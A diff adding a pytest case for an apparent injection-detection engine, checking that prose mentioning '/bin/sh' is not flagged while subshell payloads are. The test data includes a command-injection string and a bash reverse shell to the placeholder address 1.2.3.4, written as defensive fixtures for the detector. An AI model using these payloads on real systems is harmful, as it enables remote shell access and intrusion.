@@ -2323,3 +2323,18 @@ def test_manual_syntax_summaries_and_placeholders(
     engine: DetectionEngine, value: str, flagged: bool
 ) -> None:
     assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize(("value", "flagged"), [
+    # A manual's shell in brackets after a word, and Django's translate tag quoted in prose.
+    ("These functions will execute the shell (/bin/sh) with the path of the file.", False),
+    ("``{% translate %}`` also supports contextual markers using the ``context`` keyword:",
+     False),
+    # A subshell after a separator.
+    ("x;(/bin/sh -c id)", True),
+    ("foo;(/bin/bash -i >& /dev/tcp/1.2.3.4/80 0>&1)", True),
+])
+def test_a_bracket_after_a_word_opens_no_subshell(
+    engine: DetectionEngine, value: str, flagged: bool
+) -> None:
+    assert engine.detect(value)["is_threat"] is flagged
